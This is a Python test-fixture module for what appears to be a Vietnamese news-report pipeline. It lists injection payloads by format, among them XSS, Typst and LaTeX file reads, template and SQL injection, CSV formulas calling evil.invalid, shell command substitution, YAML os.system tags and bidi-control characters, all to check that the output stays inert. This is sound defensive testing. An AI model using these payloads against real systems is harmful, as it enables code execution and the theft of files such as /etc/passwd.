"""Attacks by what they aim at, and the articles that carry them through the whole pipeline.

An attack is a piece of text with the place of an article where it stands. What is expected is always the same: it is
printed as it stands (or with a declared substitute for a character that has no shape), and nothing else happens.
"""

from __future__ import annotations

from html import escape
from pathlib import Path
from typing import NamedTuple

CANARY = "Bí-mật-7719"
"""Stands in a file beside the build; no report may ever hold it."""
MARK = "ATTACKED"
"""What a script that ran would leave behind."""
SECRET = "/tmp/baocao-canary.txt"

TEXT: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>window.{MARK}=1</script>",
        f"<img src=x onerror=window.{MARK}=1>",
        f'"><svg onload=window.{MARK}=1>',
        f"</p></main><script>window.{MARK}=1</script>",
        f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
        f"<a href=javascript:window.{MARK}=1>xem</a>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=http://evil.invalid/a.css>",
        "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
        "<base href=http://evil.invalid/>",
        "<form action=http://evil.invalid/><input></form>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
        "--><!-- x --!><![CDATA[ y ]]>",
        f"'-window.{MARK}=1-'",
        f"</title><script>window.{MARK}=1</script>",
        f"</style><script>window.{MARK}=1</script>",
        "<math><mi xlink:href='data:text/html,<script>'>x</mi></math>",
        f"<details open ontoggle=window.{MARK}=1>",
        f"`${{window.{MARK}=1}}`",
        "<object data=http://evil.invalid/x.swf></object>",
    ),
    "typst": (
        f'#read("{SECRET}")',
        f"#import \"{SECRET}\": *",
        f'#include "{SECRET}"',
        f'#eval("read(\\"{SECRET}\\")")',
        '#image("/etc/hostname")',
        f'#json("{SECRET}")',
        f'#plugin("{SECRET}")',
        '#link("javascript:app.alert(1)")[xem]',
        "#set page(width: 1pt)",
        "#panic()",
        "#sys.inputs",
        '#import "@preview/cades:0.3.0"',
        "]#pagebreak()#[",
        "#{while true {}}",
        '#pdf.attach("/etc/passwd")',
        "<nhan> @nhan #label(\"x\") = Tiêu đề $ x^2 $",
        "\\u{23}read \\# \\[ \\]",
        "// chú thích /* mở",
    ),
    "markdown": (
        "# Tiêu đề giả",
        "[xem](javascript:alert(1)) ![](http://evil.invalid/x.png)",
        "| a | b |\\n|---|---|",
        "```python\\nimport os\\n```",
        "**đậm** _nghiêng_ ~~xóa~~ `mã`",
        "[^1] [x]: http://evil.invalid/",
        "<http://evil.invalid/>",
        "- [ ] việc; > trích; --- ngang",
    ),
    "template": (
        "{{ 7*7 }} {{ config }}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{# chú thích #} {%- raw -%}",
        "${{7*7}} <%= 7*7 %> #{7*7}",
        "%(name)s {0.__class__} %s %n {q1} {name}",
    ),
    "latex": (
        "$\\input{/etc/passwd}$",
        "\\write18{touch owned} \\immediate",
        "$$\\frac{1}{0}$$ \\begin{align}x\\end{align}",
        "\\documentclass{article} \\def\\x{\\x}\\x",
        "$\\href{javascript:alert(1)}{x}$",
        "\\url{http://evil.invalid/} \\catcode`\\%=12",
    ),
    "notebook": (
        '"); import os; os.system("touch owned"); ("',
        "'''; raise SystemExit; '''",
        "%run owned.py",
        "!touch owned",
        "%%bash touch owned",
        "__import__('os').system('touch owned')",
        'article = "other.json"  # parameters',
        "\\\\N{SPACE}\\\\x00\\\\u0000",
    ),
    "csv": (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.invalid/?"&A1)',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "＝1+1",
        'a","b";"c',
        "=WEBSERVICE('http://evil.invalid/')",
    ),
    "data": (
        '{"quantities": [{"low": 1}]}',
        '"}, "metadata": {"title": "giả',
        "\\u0000 \\ud800 \\\" \\\\",
        "__proto__ constructor toString",
        "NaN Infinity -0 1e999",
        "null true undefined",
    ),
    "sql": (
        "'; DROP TABLE facts; --",
        "' OR '1'='1",
        "read_csv('/etc/passwd')",
        "COPY (SELECT 1) TO 'owned'",
        "ATTACH 'owned.db'; INSTALL httpfs",
        "$1 ? :ten --",
        "read_parquet('s3://evil.invalid/x'); LOAD httpfs",
        '"; CREATE VIEW articles AS SELECT 1; --',
    ),
    "shell": (
        "$(touch owned) `touch owned`",
        "; touch owned; | tee owned & > owned",
        "${HOME} ~root $PATH !!",
        "'; touch owned; '",
        "$(shell touch owned) $(eval x) %: all",
        "../../../../etc/passwd /etc/shadow",
        "--output=owned -rf --",
        "C:\\\\Windows\\\\system32 \\\\\\\\evil.invalid\\\\share file:///etc/passwd",
    ),
    "pdf": (
        "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        ") Tj ET endstream endobj trailer",
        "(/Launch /F (calc.exe))",
        "/AA /URI (http://evil.invalid/) /EmbeddedFile",
    ),
    "characters": (
        "Số đảo \u202e4201\u202c hết",
        "Cách ly \u2067x\u2069 \u200fy\u200e",
        "biểu tượng \U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1fb\U0001f1f3",
        "chữ Hán 漢字 và kana かな",
        "chữ Ả Rập مرحبا",
        "chữ Thái สวัสดี",
        "chữ Khmer ខ្មែរ",
        "vùng riêng \ue000 \U000f0000",
        "dấu chồng a" + "\u0301\u0302\u0303\u0304" * 30,
        "điều khiển \x01 \x07 \x1b[31m \x7f",
        "gạch mềm Thanh\u00adTrì và nối\u200dliền\u200ckhông",
        "trùng dạng Тhаnh Тrì (chữ Kirin)",
        "không gán \u0378 \ufffe \U0010ffff",
        "chữ ghép \ufb01 Ⅷ ① ㎡ ½",
        "thẻ \U000e0041\U000e007f và \ufff9chú\ufffa thích\ufffb",
        "tách dòng\u2028 và đoạn\u2029 xong",
    ),
}  # fmt: skip
"""Attacks that stand in the sentences of an article, by kind; \\n stays a backslash and an n."""

PAGES: dict[str, dict[str, str]] = {
    "html": {
        "title": f"<script>window.{MARK}=1</script>",
        "author": f'"><img src=x onerror=window.{MARK}=1>',
        "outlet": f"</title><script>window.{MARK}=1</script>",
        "url": f"javascript:window.{MARK}=1",
    },
    "typst": {"title": f'#read("{SECRET}")', "author": "#panic()", "outlet": "]#eval(\"1\")#[", "url": "file:///etc/passwd"},
    "notebook": {"title": '"""; import os', "author": "!touch owned", "outlet": "%run x", "url": "http://[::1"},
    "csv": {"title": "=1+1|'x'!A0", "author": "@SUM(A1)", "outlet": "-1+1", "url": "https://evil.invalid/=1"},
    "shell": {"title": "../../$(touch owned)", "author": "`id`", "outlet": "; id", "url": "//evil.invalid/x"},
    "characters": {"title": "Xã \u202eabc\u202c \x07 漢", "author": "\U0001f600 Lan", "outlet": "\ue000", "url": "https://evil.invalid/\u202e"},
}  # fmt: skip
"""What a page states of itself in its head, by kind."""


class Attack(NamedTuple):
    kind: str
    place: str
    """sentence, speaker, title, author, outlet, url."""
    text: str
    article: str
    """Name of the article that carries it."""


def sentence(number: int, payload: str) -> str:
    """A paragraph with a figure and the attack in it."""
    return f"Năm 2023, thôn thứ {number} có {100 + number} hộ dân; ghi chú: {payload} hết ghi chú."


def write(folder: Path) -> list[Attack]:
    """The articles, in `folder`; every attack with the article that holds it."""
    folder.mkdir(parents=True, exist_ok=True)
    attacks: list[Attack] = []
    for kind, payloads in TEXT.items():
        name = f"text-{kind}"
        body = "\n\n".join(sentence(number, payload) for number, payload in enumerate(payloads, 1))
        asked = f"Phóng viên: {payloads[0]} nghĩa là gì?\n\nÔng Lê Văn Bình: Đó là {payloads[-1]} của 12 hộ.\n"
        head = "Kết quả của xã\nNgày đăng 03/04/2021 | 07:15\n"
        (folder / f"{name}.txt").write_text(f"{head}\n{body}\n\n{asked}", encoding="utf-8", newline="")
        attacks += [Attack(kind, "sentence", payload, name) for payload in payloads]
    for kind, stated in PAGES.items():
        name = f"page-{kind}"
        metas = {"og:title": "title", "author": "author", "og:site_name": "outlet", "og:url": "url"}
        head = "".join(
            f'<meta property="{key}" name="{key}" content="{escape(stated[field])}">' for key, field in metas.items()
        )
        body = "".join(f"<p>{escape(sentence(n, p))}</p>" for n, p in enumerate(TEXT[kind][:6], 1))
        page = (
            f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{escape(stated['title'])}</title>{head}</head>"
            f"<body><article><h1>{escape(stated['title'])}</h1>{body}</article></body></html>"
        )
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
        attacks += [Attack(kind, place, text, name) for place, text in stated.items()]
    return attacks


NAMES = (
    "$(touch owned).txt", "`touch owned`.txt", "; touch owned;.txt", "a b  c.txt", "'\".txt", "a&b|c.txt", "=cmd.txt",
    "%00.txt", "#read.md", "{{x}}.txt", "<script>.txt", "*.txt", "~root.txt", "CON.txt", "Тhanh-Trì.txt", "漢字.txt",
    "bài viết số 1.txt", "a:b.txt", "$HOME.txt", "%.txt",
)  # fmt: skip
"""File names that must work as they are."""
REFUSED_NAMES = (
    "-rf.txt", "--output=x.txt", ".hidden.txt", "a\nb.txt", "a\tb.txt", "a\x1b[2Jb.txt", "\u202egpj.txt",
    "a\u200bb.txt", "back\\slash.txt", "d" * 251 + ".txt", "\udcff.txt",
)  # fmt: skip
"""File names that are refused in one line, while the other articles get their reports."""

MAKE_NAMES = (
    'a.txt;touch$$IFS""owned;.txt', 'b:;touch$$IFS""owned;.txt', "c$(shell).txt", "d#e.txt", "f%g.txt", "h=i.txt",
    "j k.txt", "l$(shell touch owned).txt", "~.txt", "*.txt", "m|n.txt", "o&touch$IFS.txt", "p`touch owned`.txt",
    "q>owned.txt", "r'\".txt", "s(t).txt", "${HOME}.txt", "u;v.txt", "@w.txt", "+x.txt",
)  # fmt: skip
"""File names that mean something to make or to the shell of its recipes."""

ADDED = (
    "../../../owned", "/etc/passwd", "-rf", "$(touch owned)", "a\nb", "`owned` [x](javascript:alert(1)) | y",
    "<script>x</script>", "Xã \u202eabc\u202c", "CON", "x" * 400, "😀", "..", "=cmd|' /C calc'!A0",
)  # fmt: skip
"""Titles of pages that `baocao add` stores."""
SENT_ON = (
    "file:///etc/passwd",
    "ftp://127.0.0.1/x",
    "data:text/plain,owned",
    "gopher://127.0.0.1/",
    "//[bad",
    "/again",
)
"""Where a server may send `baocao add` on to: nowhere but to http(s), and not for ever."""

PARAMETERS = (
    '"); import os; os.system("touch owned"); ("', "\'\'\'; raise SystemExit; \'\'\'", '"""; raise SystemExit; """',
    "\\", "\\N{SPACE}\\x41\\u0041\\", "a\nb\r\nc\td", "{x} {{y}} %s %(z)s ${w}", "$(touch owned) `touch owned`",
    "\u202egpj.exe\u2028\x85", "%run owned.py", "None", "😀 \ue000",
)  # fmt: skip
"""Values of a notebook's parameters."""

_ENTRY = "corrections:\n - {do: add, kind: quantity, quote: x, reason: r, by: b, on: 2020-01-01, "
CORRECTIONS = {
    "a tag that would make an object": "- !!python/object/apply:os.system ['touch owned']",
    "a tag of one's own": "corrections: [!x {do: accept}]",
    "aliases that grow without end": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "an alias of itself": "a: &a [*a]",
    "a merge key": "corrections:\n - <<: {do: accept}",
    "nesting without end": "[" * 5000,
    "no YAML": "corrections: [",
    "two documents": "corrections: []\n---\ncorrections: []",
    "no UTF-8": b"\xff\xfe",
    "a NUL": b"corrections: []\x00",
    "an unknown field": "corrections: []\nrun: touch owned",
    "another type": "corrections: 3",
    "a list of numbers": "corrections: [3]",
    "a name twice": "corrections: []\ncorrections: []",
    "a name that is a list": "? [a, b]\n: c",
    "an endless number": _ENTRY + "values: {low: " + "9" * 5000 + "}}",
    "a number with an endless exponent": _ENTRY + "values: {low: 1e999999}}",
    "no number": _ENTRY + "values: {low: nan}}",
    "more than any number": _ENTRY + "values: {low: Infinity}}",
    "a place beyond the text": _ENTRY + "start: -1, end: 99999999999999999999}",
    "a day that is none": _ENTRY.replace("01-01", "02-31") + "start: 1}",
}  # fmt: skip
"""Corrections files that must be refused in one line that names the file."""

SETTINGS: dict[str, tuple[str | bytes, ...]] = {
    "office.toml": (
        "agency = ", "run = 'touch owned'", b"\xff\xfe", "agency = 3", "[agency]\nx = 1", "\x00", "a = 1\na = 2",
    ),
    "issue.json": ("{", "[]", b"\xff", '{"format": "other/9"}', '{"figures": 3}', "[" * 100_000, '{"format": NaN}'),
}  # fmt: skip
"""Files of a project that somebody sends, by name."""

MESSAGES: tuple[bytes, ...] = (
    b"", b"{", b"[]", b"null", b"\xff\xfe", b'{"version": 3}', b"[" * 50_000, b'{"do": "accept", "__class__": "x"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"../../etc/passwd","reason":"r","by":"b"}',
    b'{"version":"","do":"add","kind":"quantity","start":-1,"end":-1,"values":{},"reason":"r","by":"b"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"q1","reason":"\\ud800","by":"b"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"q1","reason":"r","by":"b","path":"/tmp/x"}',
    b'{"version":"","do":"add","kind":"quantity","start":0,"end":99999999999999999999999,"reason":"r","by":"b"}',
)  # fmt: skip
"""Bodies that a page of the review server would never send."""
